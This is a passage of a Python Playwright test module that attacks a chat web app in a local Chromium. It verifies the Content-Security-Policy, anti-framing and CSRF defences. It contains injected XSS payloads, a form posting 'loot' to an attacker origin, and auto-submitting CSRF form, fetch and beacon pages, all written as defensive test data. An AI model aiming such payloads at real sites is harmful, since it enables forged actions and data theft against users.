"""Real Chromium against a real server, attacked (SPEC section 8).

- The Content-Security-Policy in real use: two people use every page with JavaScript
  on (live messages, typing, edit, delete, older messages, every page, log out) while
  an init script records every `securitypolicyviolation` on every page: there must be
  none, and every page must carry the policy. A negative control injects inline
  script, inline handlers, style attributes, string-eval, a foreign script, a foreign
  fetch, a foreign form and <base> into an app page: the policy blocks each and the
  recorder sees each (and the same payloads do run when the policy is bypassed).
- The app cannot be framed by another origin (frame-ancestors 'none').
- CSRF from real attacker pages: a page on another port of 127.0.0.1 (same site, so
  alice's SameSite=Lax cookie IS sent: only the Origin check and the token stand in
  the way), the same with Referrer-Policy no-referrer (Origin: null), and a page on
  http://localhost:<port> (cross-site: the cookie is withheld) post forms to every
  state-changing route without a token, with a forged one and with alice's real one,
  and send no-cors fetches, a preflighted fetch and beacons. Every request that
  reaches the server is answered 403, and no row of the database changes (but when a
  session was last seen).
- Cross-site WebSocket hijacking: the attacker pages open ws://127.0.0.1:<app>/ws
  while alice posts; no socket ever opens and no frame arrives. The same code on
  alice's own page does open and does receive her message (the control).

The attacker site is a small http.server of the test's own on another port; its
/witness... paths record what the browser sent (the cookie a same-site socket carries).

Needs /usr/bin/chromium (`apt-get install chromium`); skipped without it outside CI and
failed in CI.
"""

from __future__ import annotations

import contextlib
import functools
import hashlib
import http.server
import json
import re
import sqlite3
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import (
    BrowserContext,
    ConsoleMessage,
    Error,
    Page,
    Response,
    expect,
)

from tests.support.browser import (
    TIMEOUT,
    composer_box,
    create_group_chat,
    expect_live,
    messages_with,
    register,
    say,
    seq_of,
)
from tests.support.people import PASSWORD
from tests.support.remote import unique
from tests.support.servers import RestartableServer, ServerFailed, free_port, restartable_server

pytestmark = pytest.mark.browser

SESSION_COOKIE = "vibechat_session"
DATABASE_FILE = "vibechat.sqlite3"
# Columns that a refused request may still touch (a session is "seen"), and that say
# nothing about what an attacker achieved.
VOLATILE_COLUMNS = {"last_seen_at"}


# -- fixtures ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def server(chromium_executable, tmp_path_factory) -> Iterator[RestartableServer]:
    """One server for the module; its instance folder holds the SQLite file we read."""
    try:
        with restartable_server(tmp_path_factory.mktemp("attacks-instance")) as server:
            yield server
    except ServerFailed as error:
        pytest.fail(str(error), pytrace=False)


class AttackerSite:
    """Static pages on 127.0.0.1:<port> (reachable as http://localhost:<port> too, which
    is another site). GET /witness... answers 403 and records the request's headers."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.port = free_port()
        self.requests: list[str] = []  # every path asked for, in order
        self.witnessed: list[dict[str, str | None]] = []
        site = self

        class Handler(http.server.SimpleHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def _witness(self) -> bool:
                site.requests.append(f"{self.command} {self.path}")
                if not self.path.startswith("/witness"):
                    return False
                site.witnessed.append(
                    {
                        "path": self.path,
                        "origin": self.headers.get("Origin"),
                        "cookie": self.headers.get("Cookie"),
                        "upgrade": self.headers.get("Upgrade"),
                    }
                )
                self.send_response(403)
                self.send_header("Content-Length", "0")
                self.end_headers()
                return True

            def do_GET(self) -> None:
                if not self._witness():
                    super().do_GET()

            def do_POST(self) -> None:
                if not self._witness():
                    self.send_error(405)

        handler = functools.partial(Handler, directory=str(root))
        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), handler)
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def origin(self, host: str = "127.0.0.1") -> str:
        return f"http://{host}:{self.port}"

    def write(self, name: str, html: str) -> str:
        (self.root / name).write_text(html, encoding="utf-8")
        return name

    def __enter__(self) -> AttackerSite:
        self.thread.start()
        return self

    def __exit__(self, *exc_info) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(5)


@pytest.fixture(scope="module")
def attacker(tmp_path_factory) -> Iterator[AttackerSite]:
    with AttackerSite(tmp_path_factory.mktemp("attacker-site")) as site:
        yield site


@pytest.fixture(scope="module", autouse=True)
def localhost_reachable(browser, attacker) -> None:
    """The cross-site attacks need http://localhost:<port> to reach the attacker site
    (CHROMIUM_ARGS exclude localhost from the resolver rules). Fail loudly if not."""
    context = browser.new_context()
    try:
        page = context.new_page()
        attacker.write("hello.html", "<!doctype html><title>hello</title><p>hello</p>")
        response = page.goto(attacker.origin("localhost") + "/hello.html", timeout=TIMEOUT)
        assert response is not None and response.status == 200
    finally:
        context.close()


# -- recording CSP violations ------------------------------------------------------------------

# Runs before any script of every page (and frame) of the context.
CSP_RECORDER_JS = """(() => {
  const seen = window.__cspViolations = []
  document.addEventListener('securitypolicyviolation', (event) => {
    const violation = {
      page: location.href, directive: event.effectiveDirective,
      violated: event.violatedDirective, blocked: event.blockedURI, sample: event.sample,
      source: event.sourceFile, line: event.lineNumber, disposition: event.disposition,
      n: seen.length, origin: performance.timeOrigin,
    }
    seen.push(violation)
    if (typeof window.__reportCspViolation === 'function') {
      window.__reportCspViolation(violation).catch(() => {})
    }
  }, true)
})()"""


@dataclass
class Watch:
    """CSP violations (pushed by the init script, and harvested from each page before it
    navigates), console lines about CSP, uncaught errors, document responses, and every
    URL each main frame showed."""

    violations: dict[tuple, dict] = field(default_factory=dict)
    csp_console: list[str] = field(default_factory=list)
    console_errors: list[str] = field(default_factory=list)
    page_errors: list[str] = field(default_factory=list)
    documents: list[Response] = field(default_factory=list)
    visited: list[str] = field(default_factory=list)

    def add(self, violation: dict) -> None:
        key = (violation.get("page"), violation.get("origin"), violation.get("n"))
        self.violations.setdefault(key, violation)

    def harvest(self, page: Page) -> None:
        """Read window.__cspViolations before the page goes away."""
        with contextlib.suppress(Error):  # a page mid-navigation has nothing to give
            for violation in page.evaluate("window.__cspViolations || []"):
                self.add(violation)

    def attach(self, context: BrowserContext, name: str) -> None:
        context.add_init_script(CSP_RECORDER_JS)
        context.expose_binding("__reportCspViolation", lambda _source, v: self.add(v))

        def on_console(message: ConsoleMessage) -> None:
            line = f"{name}: console.{message.type}: {message.text}"
            if "Content Security Policy" in message.text:
                self.csp_console.append(line)
            elif message.type == "error":
                self.console_errors.append(line)

        def on_page(page: Page) -> None:
            page.on("console", on_console)
            page.on("pageerror", lambda error: self.page_errors.append(f"{name}: {error}"))
            page.on(
                "response",
                lambda r: (
                    self.documents.append(r) if r.request.resource_type == "document" else None
                ),
            )
            page.on(
                "framenavigated",
                lambda frame: (
                    self.visited.append(frame.url) if frame.parent_frame is None else None
                ),
            )

        context.on("page", on_page)

    def report(self) -> str:
        return (
            "\n".join(json.dumps(v) for v in self.violations.values())
            + "\n"
            + "\n".join(self.csp_console)
        )


def open_page(new_context, watch: Watch, base_url: str, name: str, **context_args) -> Page:
    context: BrowserContext = new_context(base_url=base_url, **context_args)
    context.set_default_timeout(TIMEOUT)
    context.set_default_navigation_timeout(TIMEOUT)
    watch.attach(context, name)
    return context.new_page()


def csp_directives(policy: str) -> dict[str, str]:
    directives = {}
    for part in policy.split(";"):
        name, _, value = part.strip().partition(" ")
        if name:
            directives[name.lower()] = value.strip()
    return directives


def assert_strict_csp_headers(response: Response, port: int) -> None:
    # Not all_headers(): it can wait forever for raw headers that never come. These are
    # the headers of the response as received, all but the cookie ones.
    headers = response.headers
    where = f"{response.request.method} {response.url} ({response.status})"
    policy = headers.get("content-security-policy")
    assert policy, f"{where} has no Content-Security-Policy"
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy, (where, policy)
    directives = csp_directives(policy)
    for name, value in {
        "default-src": "'self'",
        "script-src": "'self'",
        "style-src": "'self'",
        "object-src": "'none'",
        "frame-ancestors": "'none'",
        "base-uri": "'none'",
        "form-action": "'self'",
    }.items():
        assert directives.get(name) == value, (where, name, policy)
    assert directives.get("img-src", "").split() == ["'self'", "data:"], (where, policy)
    assert set(directives.get("connect-src", "").split()) <= {
        "'self'",
        f"ws://127.0.0.1:{port}",
    }, (where, policy)
    assert headers.get("x-content-type-options") == "nosniff", where
    assert headers.get("x-frame-options") == "DENY", where
    assert headers.get("referrer-policy") == "same-origin", where
    assert "camera=()" in (headers.get("permissions-policy") or ""), where


# -- helpers -------------------------------------------------------------------------------------


def csrf_token_of(page: Page) -> str:
    token = page.locator('input[name="csrf_token"]').first.input_value()
    assert re.fullmatch(r"[0-9a-f]{64}", token), token
    return token


def database_state(instance: Path) -> dict[str, list[tuple]]:
    """Every row of every table (but the volatile columns), read-only, from the
    server's own SQLite file."""
    uri = (instance / DATABASE_FILE).as_uri() + "?mode=ro"
    with contextlib.closing(sqlite3.connect(uri, uri=True)) as db:
        tables = [
            row[0]
            for row in db.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table'"
                " AND name NOT LIKE 'sqlite_%' AND name != 'alembic_version' ORDER BY name"
            )
        ]
        state = {}
        for table in tables:
            columns = [
                row[1]
                for row in db.execute(f'PRAGMA table_info("{table}")')
                if row[1] not in VOLATILE_COLUMNS
            ]
            selected = ", ".join(f'"{column}"' for column in columns)
            # Names from sqlite_master and table_info, not from any input.
            rows = db.execute(f'SELECT {selected} FROM "{table}"').fetchall()  # noqa: S608
            state[table] = sorted(rows, key=repr)
    assert {"users", "sessions", "chats", "memberships", "messages"} <= set(state), state.keys()
    return state


def read_marks(instance: Path, chat_id: int) -> list[int]:
    uri = (instance / DATABASE_FILE).as_uri() + "?mode=ro"
    with contextlib.closing(sqlite3.connect(uri, uri=True)) as db:
        rows = db.execute(
            "SELECT last_read_seq FROM memberships WHERE chat_id = ? ORDER BY user_id", (chat_id,)
        )
        return [row[0] for row in rows]


def session_token_of(context: BrowserContext) -> str:
    values = [c["value"] for c in context.cookies() if c["name"] == SESSION_COOKIE]
    assert len(values) == 1, context.cookies()
    return values[0]


# -- 1. the policy in real use ---------------------------------------------------------------------


def test_csp_holds_while_two_people_use_every_page(new_context, server):
    watch = Watch()
    alice = open_page(new_context, watch, server.url, "alice")
    bob = open_page(new_context, watch, server.url, "bob")
    alice_name, bob_name = unique("alice"), unique("bob")
    register(alice, alice_name, "Alice Liddell")
    register(bob, bob_name, "Bob Dylan")
    chat_id = create_group_chat(alice, unique("Watercooler"), bob_name)
    expect_live(alice)
    watch.harvest(bob)
    bob.goto(f"/chats/{chat_id}")
    expect_live(bob)
    for page in (alice, bob):
        expect(page.locator("#member-list li.member .presence")).to_have_text(["online"] * 2)

    # Typing, then Enter: it shows on bob's page live.
    first = "Hello Bob, typed and sent with Enter"
    alice_url, bob_url = alice.url, bob.url
    composer_box(alice).press_sequentially(first, delay=5)
    expect(bob.locator(f"#typing-{chat_id}")).to_have_text("Alice Liddell is typing…")
    composer_box(alice).press("Enter")
    expect(messages_with(bob, first)).to_have_count(1)
    expect(messages_with(alice, first)).to_have_count(1)
    expect(bob.locator(f"#typing-{chat_id}")).to_have_text("")

    # Bob answers with the Send button: it shows on alice's page live.
    reply = "Hi Alice, sent with the button"
    composer_box(bob).fill(reply)
    bob.get_by_role("button", name="Send", exact=True).click()
    expect(messages_with(alice, reply)).to_have_count(1)
    expect(messages_with(bob, reply)).to_have_count(1)
    assert (alice.url, bob.url) == (alice_url, bob_url), "a page reloaded: not live"
    first_seq, reply_seq = seq_of(alice, first), seq_of(alice, reply)

    # Alice edits hers (the edit page), bob sees the edit live.
    edited = "Hello Bob, edited on the edit page"
    watch.harvest(alice)
    alice.goto(f"/chats/{chat_id}/messages/{first_seq}/edit")
    composer_box(alice).fill(edited)
    watch.harvest(alice)
    alice.get_by_role("button", name="Save", exact=True).click()
    expect(alice).to_have_url(re.compile(rf"/chats/{chat_id}#msg-{chat_id}-{first_seq}$"))
    theirs = bob.locator(f"#msg-{chat_id}-{first_seq}")
    expect(theirs.locator(".message-body")).to_have_text(edited)
    expect(theirs.locator(".message-edited")).to_have_text("(edited)")
    expect_live(alice)

    # Bob deletes his, alice sees the tombstone live.
    watch.harvest(bob)
    bob.goto(f"/chats/{chat_id}/messages/{reply_seq}/edit")
    watch.harvest(bob)
    # Deleting asks first, on a page of its own (issue 15): its CSP is watched too.
    bob.get_by_role("link", name="Delete this message…", exact=True).click()
    watch.harvest(bob)
    bob.get_by_role("button", name="Delete message", exact=True).click()
    expect(bob).to_have_url(re.compile(rf"/chats/{chat_id}#msg-{chat_id}-{reply_seq}$"))
    expect(alice.locator(f"#msg-{chat_id}-{reply_seq} .message-body")).to_have_text(
        "Message deleted"
    )
    expect_live(bob)

    # 55 more through alice's page (its own fetch, its own token): all arrive on bob's.
    bulk = 55
    posted = alice.evaluate(
        """async ({url, n}) => {
          const token = document.querySelector('input[name="csrf_token"]').value
          let ok = 0
          for (let i = 1; i <= n; i++) {
            const response = await fetch(url, {method: 'POST', credentials: 'same-origin',
              headers: {'X-CSRF-Token': token, 'HX-Request': 'true'},
              body: new URLSearchParams({body: 'bulk message ' + i,
                                         client_token: crypto.randomUUID()})})
            if (response.ok) ok++
          }
          return ok
        }""",
        {"url": f"/chats/{chat_id}/messages", "n": bulk},
    )
    assert posted == bulk
    total = 2 + bulk
    expect(messages_with(bob, f"bulk message {bulk}")).to_have_count(1)
    expect(bob.locator("#messages li.message")).to_have_count(total)
    expect(alice.locator("#messages li.message")).to_have_count(total)

    # A fresh load shows the latest 50 and the link to earlier ones (htmx fragment).
    watch.harvest(bob)
    bob.reload()
    expect_live(bob)
    expect(bob.locator("#messages li.message")).to_have_count(50)
    older = bob.get_by_role("link", name="Earlier messages", exact=True)
    with bob.expect_response(lambda r: "before=" in r.url) as fragment:
        older.click()
    assert fragment.value.status == 200
    assert fragment.value.request.headers.get("hx-request") == "true"
    assert fragment.value.request.resource_type in {"xhr", "fetch"}
    expect(bob.locator("#messages li.message")).to_have_count(total)
    expect(bob.locator("#messages li.message").first).to_contain_text(edited)
    expect(older).to_have_count(0)

    # The no-JavaScript pages: newer messages after 50, the chat list, members, settings, password,
    # a 404, a wrong current password (422), log out, a wrong password (401), log in.
    watch.harvest(bob)
    bob.goto(f"/chats/{chat_id}/messages?after=50")
    expect(bob.locator(".messages li.message")).to_have_count(total - 50)
    expect(bob.locator(".messages li.message").last).to_contain_text(f"bulk message {bulk}")
    watch.harvest(bob)
    bob.get_by_role("link", name="Chats", exact=True).click()
    expect(bob).to_have_url(re.compile(r"/chats$"))
    expect(bob.locator(f"#chat-{chat_id}")).to_have_count(1)
    expect(bob.locator(f"#chat-{chat_id} .unread")).to_have_count(0)
    # The chat list is live too: alice writes, bob's list counts it without a reload.
    expect_live(bob)
    say(alice, "while bob looks at his chat list")
    expect(bob.locator(f"#chat-{chat_id} .unread")).to_have_text("1 unread")
    expect(bob.locator(f"#chat-{chat_id} .chat-preview")).to_contain_text(
        "while bob looks at his chat list"
    )
    watch.harvest(bob)
    bob.goto(f"/chats/{chat_id}")
    watch.harvest(bob)
    bob.get_by_role("link", name="2 members and settings").click()
    expect(bob).to_have_url(re.compile(rf"/chats/{chat_id}/members$"))
    expect(bob.locator(".member-list li")).to_have_count(2)
    watch.harvest(bob)
    bob.get_by_role("link", name="Settings", exact=True).click()
    expect(bob).to_have_url(re.compile(r"/account$"))
    expect(bob.get_by_role("heading", level=1)).to_have_text("Settings")
    watch.harvest(bob)
    bob.get_by_role("link", name="Change your password", exact=True).click()
    expect(bob).to_have_url(re.compile(r"/account/password$"))
    expect(bob.get_by_role("heading", level=1)).to_have_text("Change your password")
    watch.harvest(bob)
    missing = bob.goto("/chats/999999")
    assert missing is not None and missing.status == 404
    watch.harvest(bob)
    bob.get_by_role("button", name="Log out").click()
    expect(bob).to_have_url(re.compile(r"/login$"))
    expect(bob.locator(".signed-in")).to_have_count(0)

    watch.harvest(alice)
    alice.goto("/account/password")
    alice.get_by_label("Current password", exact=True).fill("not my password")
    alice.get_by_label("New password", exact=True).fill("a new password 123")
    watch.harvest(alice)
    with alice.expect_response(lambda r: r.request.method == "POST") as answer:
        alice.get_by_role("button", name="Change password", exact=True).click()
    assert answer.value.status == 422
    expect(alice.locator("#current_password-error")).to_be_visible()
    watch.harvest(alice)
    alice.get_by_role("button", name="Log out").click()
    expect(alice).to_have_url(re.compile(r"/login$"))
    alice.get_by_label("Username", exact=True).fill(alice_name)
    alice.get_by_label("Password", exact=True).fill("wrong password")
    watch.harvest(alice)
    with alice.expect_response(lambda r: r.request.method == "POST") as answer:
        alice.get_by_role("button", name="Log in", exact=True).click()
    assert answer.value.status == 401
    alice.get_by_label("Password", exact=True).fill(PASSWORD)
    watch.harvest(alice)
    alice.get_by_role("button", name="Log in", exact=True).click()
    expect(alice).to_have_url(re.compile(r"/chats$"))
    expect(alice.locator(f"#chat-{chat_id}")).to_have_count(1)
    alice.wait_for_timeout(300)  # let the last page settle (stylesheets, socket)
    watch.harvest(alice)
    watch.harvest(bob)

    # Every kind of page was shown...
    paths = {re.sub(r"^https?://[^/]+", "", url).split("#")[0] for url in watch.visited}
    expected = {
        "/register",
        "/login",
        "/chats",
        f"/chats/{chat_id}",
        f"/chats/{chat_id}/messages/{first_seq}/edit",
        f"/chats/{chat_id}/messages/{reply_seq}/edit",
        f"/chats/{chat_id}/messages?after=50",
        f"/chats/{chat_id}/members",
        "/account/password",
        "/chats/999999",
    }
    assert expected <= paths, expected - paths
    # ... with the policy on every document (redirects and errors included) ...
    documents = [r for r in watch.documents if r.url.startswith(server.url)]
    assert len(documents) >= 25, [r.url for r in documents]
    assert {r.status for r in documents} >= {200, 303, 401, 404, 422}
    for response in documents:
        assert_strict_csp_headers(response, server.port)
    # ... and not one violation anywhere.
    assert not watch.violations, "CSP violations:\n" + watch.report()
    assert not watch.csp_console, "CSP console messages:\n" + "\n".join(watch.csp_console)
    assert not watch.page_errors, watch.page_errors


# -- 2. negative control: the recorder sees what the policy blocks -------------------------------

INJECT_JS = """(evil) => {
  document.body.insertAdjacentHTML('beforeend',
    '<img id="xss-img" src="data:," onerror="window.__ran = 1">' +
    '<div id="xss-style" style="color: rgb(255, 0, 0)">red?</div>')
  const inline = document.createElement('script')
  inline.textContent = 'window.__inlineScript = 1'
  document.body.appendChild(inline)
  const sheet = document.createElement('style')
  sheet.textContent = '#xss-style { background-color: rgb(0, 255, 0) }'
  document.head.appendChild(sheet)
  setTimeout('window.__stringTimer = 1', 0)
  const foreign = document.createElement('script')
  foreign.src = evil + '/evil.js'
  document.head.appendChild(foreign)
  window.__fetched = null
  fetch(evil + '/witness-fetch', {mode: 'no-cors'}).then(
    () => { window.__fetched = 'sent' }, () => { window.__fetched = 'refused' })
}"""

FORM_AND_BASE_JS = """(evil) => {
  document.body.insertAdjacentHTML('beforeend', '<base href="' + evil + '/">')
  const form = document.createElement('form')
  form.method = 'post'
  form.action = evil + '/witness-form'
  const field = document.createElement('input')
  field.name = 'loot'
  field.value = 'secret'
  form.appendChild(field)
  document.body.appendChild(form)
  form.requestSubmit()
}"""

EFFECTS_JS = """() => ({
  ran: window.__ran, inlineScript: window.__inlineScript, stringTimer: window.__stringTimer,
  evil: window.__evil, fetched: window.__fetched,
  color: getComputedStyle(document.getElementById('xss-style')).color,
  background: getComputedStyle(document.getElementById('xss-style')).backgroundColor,
})"""


def test_csp_blocks_injected_markup_and_the_recorder_sees_it(new_context, server, attacker):
    attacker.write("evil.js", "window.__evil = 1\n")
    evil = attacker.origin()
    watch = Watch()
    page = open_page(new_context, watch, server.url, "victim")
    register(page, unique("victim"), "Victim")
    expect(page.locator("body")).to_have_attribute("data-hx-ext", "ws")  # htmx's page
    page.wait_for_function("() => typeof window.htmx === 'object'")
    asked_before = len(attacker.requests)

    page.evaluate(INJECT_JS, evil)
    expected = {
        ("script-src-attr", "inline"),  # onerror="..."
        ("style-src-attr", "inline"),  # style="..."
        ("script-src-elem", "inline"),  # <script>...</script>
        ("style-src-elem", "inline"),  # <style>...</style>
        ("script-src", "eval"),  # setTimeout('...')
        ("script-src-elem", f"{evil}/evil.js"),
        ("connect-src", f"{evil}/witness-fetch"),
    }

    def seen() -> set[tuple[str, str]]:
        return {(v["directive"], v["blocked"]) for v in watch.violations.values()}

    def wait_until_seen() -> None:
        deadline = time.monotonic() + TIMEOUT / 1000
        while not expected <= seen() and time.monotonic() < deadline:
            page.wait_for_timeout(50)
        assert expected <= seen(), f"missing {expected - seen()}:\n{watch.report()}"

    # Both ways the recorder reports work: pushed at once through the binding (nothing
    # harvested yet), and kept in the page for harvest().
    wait_until_seen()
    in_page = page.evaluate("() => window.__cspViolations")
    assert expected <= {(v["directive"], v["blocked"]) for v in in_page}, in_page
    expect(page.locator("#xss-img")).to_have_count(1)
    page.wait_for_function("() => window.__fetched !== null")
    effects = page.evaluate(EFFECTS_JS)
    assert effects["ran"] is None, "an injected inline handler ran"
    assert effects["inlineScript"] is None, "an injected inline script ran"
    assert effects["stringTimer"] is None, "a string was evaluated as code"
    assert effects["evil"] is None, "a script from another origin ran"
    assert effects["fetched"] == "refused"
    assert effects["color"] != "rgb(255, 0, 0)", "a style attribute applied"
    assert effects["background"] != "rgb(0, 255, 0)", "an inline <style> applied"
    # Chromium says so on the console too, once for each (test 1 watches that as well).
    refusals = [line for line in watch.csp_console if "violates the following" in line]
    assert len(refusals) == len(expected), "\n".join(watch.csp_console)

    # A foreign <base> and a form posting our data to another origin: blocked, and the
    # page stays where it is.
    url = page.url
    page.evaluate(FORM_AND_BASE_JS, evil)
    expected |= {("base-uri", f"{evil}/"), ("form-action", f"{evil}/witness-form")}
    wait_until_seen()
    page.wait_for_timeout(200)
    assert page.url == url
    assert attacker.requests[asked_before:] == [], "the page reached the attacker's origin"

    # Control: the very same payloads do run once the policy is out of the way (Playwright
    # strips it), so it is the policy, and nothing else, that stopped them above.
    bypass = Watch()
    control = open_page(new_context, bypass, server.url, "control", bypass_csp=True)
    register(control, unique("control"), "Control")
    control.evaluate(INJECT_JS, evil)
    control.wait_for_function(
        "() => window.__ran === 1 && window.__inlineScript === 1 && window.__stringTimer === 1"
        " && window.__evil === 1 && window.__fetched === 'sent'"
    )
    effects = control.evaluate(EFFECTS_JS)
    assert effects["color"] == "rgb(255, 0, 0)"
    assert effects["background"] == "rgb(0, 255, 0)"
    bypass.harvest(control)
    assert not bypass.violations, bypass.report()
    assert "GET /evil.js" in attacker.requests[asked_before:]


# -- 3. no framing by another origin ----------------------------------------------------------


BLOCKED_FRAME = "chrome-error://chromewebdata/"  # what Chromium shows in a refused frame


def test_app_cannot_be_framed_by_another_origin(new_context, server, attacker):
    watch = Watch()
    alice = open_page(new_context, watch, server.url, "alice")
    register(alice, unique("alice"), "Alice Liddell")  # signed in: a clickjacking target
    attacker.write("own.html", "<!doctype html><title>own</title><p id=own>the attacker's own</p>")
    attacker.write(
        "frame.html",
        "<!doctype html><title>Win a prize</title><link rel=icon href='data:,'>"
        f"<iframe name=login src='{server.url}/login'></iframe>"
        f"<iframe name=chats src='{server.url}/chats'></iframe>"
        "<iframe name=own src='/own.html'></iframe>",
    )
    page = alice.context.new_page()
    blocked: list[str] = []
    page.on("requestfailed", lambda r: blocked.append(f"{r.url} {r.failure}"))
    framed = 0
    for host in ("127.0.0.1", "localhost"):
        page.goto(f"{attacker.origin(host)}/frame.html")
        own = page.frame(name="own")
        assert own is not None
        expect(own.locator("#own")).to_have_text("the attacker's own")  # frames do work
        for name in ("login", "chats"):
            frame = page.frame(name=name)
            assert frame is not None
            # Chromium swaps in its error page: the app's document never renders.
            deadline = time.monotonic() + TIMEOUT / 1000
            while frame.url != BLOCKED_FRAME and time.monotonic() < deadline:
                page.wait_for_timeout(50)
            assert frame.url == BLOCKED_FRAME, (host, name, frame.url)
            expect(frame.locator("form")).to_have_count(0)
            expect(frame.locator(".signed-in")).to_have_count(0)
            expect(frame.get_by_text("vibechat")).to_have_count(0)
            framed += 1
    frame_refusals = [line for line in watch.csp_console if "frame-ancestors 'none'" in line]
    assert len(frame_refusals) == framed, f"not refused by frame-ancestors: {watch.csp_console}"
    assert len([line for line in blocked if "ERR_BLOCKED_BY_RESPONSE" in line]) == framed, blocked


# -- 4. CSRF from attacker pages --------------------------------------------------------------

FORM_PAGE = """<!doctype html>
<meta charset="utf-8">{meta}
<link rel="icon" href="data:,">
<title>You won a prize</title>
<body>
<script>
  const spec = JSON.parse(new URLSearchParams(location.search).get('spec'))
  const form = document.createElement('form')
  form.method = 'post'
  form.action = spec.action
  for (const [name, value] of Object.entries(spec.fields)) {{
    const input = document.createElement('input')
    input.type = 'hidden'
    input.name = name
    input.value = value
    form.appendChild(input)
  }}
  document.body.appendChild(form)
  form.submit()
</script>
"""

# Every form at once, each into a hidden frame of its own.
FRAMES_PAGE = """<!doctype html>
<meta charset="utf-8">{meta}
<link rel="icon" href="data:,">
<title>You won many prizes</title>
<body>
<script>
  {spec}.forEach((spec, i) => {{
    const frame = document.createElement('iframe')
    frame.name = 'frame' + i
    frame.hidden = true
    document.body.appendChild(frame)
    const form = document.createElement('form')
    form.method = 'post'
    form.action = spec.action
    form.target = frame.name
    for (const [name, value] of Object.entries(spec.fields)) {{
      const input = document.createElement('input')
      input.type = 'hidden'
      input.name = name
      input.value = value
      form.appendChild(input)
    }}
    document.body.appendChild(form)
    form.submit()
  }})
</script>
"""
NO_REFERRER = '\n<meta name="referrer" content="no-referrer">'  # then Origin: null
ATTACK_NUMBER = re.compile(r"[?&]attack=(\d+)$")
# Routes that are also tried without a token and with a forged one as top-level posts.
TABS = 4  # attacker tabs posting at the same time
TOKENLESS_TOO = {"post a message", "change the password", "delete the chat", "log out"}

# Requests a page script may send to another origin with credentials.
FETCH_PAGE = """<!doctype html>
<meta charset="utf-8">
<link rel="icon" href="data:,">
<title>Loading…</title>
<script>
  const spec = JSON.parse(new URLSearchParams(location.search).get('spec'))
  window.results = []
  const note = (name) => [(r) => results.push([name, 'answered', r.type, r.status]),
                          (e) => results.push([name, 'failed', String(e)])]
  const form = (fields) => new URLSearchParams(fields)
  const multipart = (fields) => {
    const data = new FormData()
    for (const [k, v] of Object.entries(fields)) data.append(k, v)
    return data
  }
  for (const attack of spec.attacks) {
    const init = {method: 'POST', credentials: 'include'}
    const body = form(attack.fields)
    if (attack.how === 'no-cors form') Object.assign(init, {mode: 'no-cors', body})
    if (attack.how === 'no-cors multipart') {
      Object.assign(init, {mode: 'no-cors', body: multipart(attack.fields)})
    }
    if (attack.how === 'cors form') Object.assign(init, {mode: 'cors', body})
    if (attack.how === 'cors text/plain') {
      Object.assign(init, {mode: 'cors', body: body.toString(),
                           headers: {'Content-Type': 'text/plain'}})
    }
    if (attack.how === 'cors with token header') {
      Object.assign(init, {mode: 'cors', body,
                           headers: {'X-CSRF-Token': attack.token, 'HX-Request': 'true'}})
    }
    if (attack.how === 'beacon') {
      results.push([attack.how, 'queued', navigator.sendBeacon(attack.action, form(attack.fields))])
      continue
    }
    fetch(attack.action, init).then(...note(attack.how))
  }
</script>
"""


@dataclass
class Sent:
    """One request as Chromium's network stack saw it (CDP): what went out, what came
    back, even when the page itself may not read the answer."""

    method: str | None = None
    url: str | None = None
    origin: str | None = None
    cookies_sent: list[str] = field(default_factory=list)
    cookies_withheld: dict[str, list[str]] = field(default_factory=dict)
    statuses: list[int] = field(default_factory=list)
    failure: str | None = None
    raw: bool = True  # False: only what Playwright saw before the network stack's report


class NetLog:
    """Network events of one page, from a CDP session of our own."""

    def __init__(self, page: Page) -> None:
        self.sent: dict[str, Sent] = {}
        cdp = page.context.new_cdp_session(page)
        cdp.on("Network.requestWillBeSent", self._request)
        cdp.on("Network.requestWillBeSentExtraInfo", self._request_extra)
        cdp.on("Network.responseReceivedExtraInfo", self._response_extra)
        cdp.on("Network.loadingFailed", self._failed)
        cdp.send("Network.enable")

    def _entry(self, request_id: str) -> Sent:
        return self.sent.setdefault(request_id, Sent())

    def _request(self, event: dict) -> None:
        entry = self._entry(event["requestId"])
        if entry.url is None:  # keep the first hop of a redirect chain
            entry.method = event["request"]["method"]
            entry.url = event["request"]["url"]

    def _request_extra(self, event: dict) -> None:
        entry = self._entry(event["requestId"])
        headers = {k.lower(): v for k, v in event.get("headers", {}).items()}
        entry.origin = entry.origin or headers.get("origin")
        for item in event.get("associatedCookies", []):
            name, reasons = item["cookie"]["name"], item.get("blockedReasons", [])
            if reasons:
                entry.cookies_withheld[name] = reasons
            else:
                entry.cookies_sent.append(name)

    def _response_extra(self, event: dict) -> None:
        self._entry(event["requestId"]).statuses.append(event["statusCode"])

    def _failed(self, event: dict) -> None:
        entry = self._entry(event["requestId"])
        entry.failure = (
            event.get("errorText", "")
            + " "
            + json.dumps(event.get("corsErrorStatus") or event.get("blockedReason") or "")
        )

    def for_attack(self, number: int) -> list[Sent]:
        return [
            sent
            for sent in self.sent.values()
            if sent.method == "POST"
            and (match := ATTACK_NUMBER.search(sent.url or ""))
            and int(match.group(1)) == number
        ]


@dataclass
class Attack:
    number: int
    kind: str  # form / fetch / beacon
    how: str
    origin_kind: str  # same-site / same-site, Origin: null / cross-site
    target: str
    token: str  # none / forged / real
    status: int | None = None
    sent: Sent | None = None


def csrf_targets(chat_id: int, first: int, second: int, bob: str, mallory: str) -> list:
    return [
        ("post a message", f"/chats/{chat_id}/messages", {"body": "Sent by the attacker"}),
        ("create a chat", "/chats", {"title": "The attacker's chat", "members": mallory}),
        ("open a direct chat", "/chats/direct", {"username": mallory}),
        ("add a member", f"/chats/{chat_id}/members", {"members": mallory}),
        ("rename the chat", f"/chats/{chat_id}/rename", {"title": "Renamed by the attacker"}),
        ("edit a message", f"/chats/{chat_id}/messages/{first}/edit", {"body": "Edited!"}),
        ("delete a message", f"/chats/{chat_id}/messages/{second}/delete", {}),
        ("mark read", f"/chats/{chat_id}/read", {"seq": "1"}),
        ("remove a member", f"/chats/{chat_id}/members/{bob}/remove", {}),
        (
            "change the password",
            "/account/password",
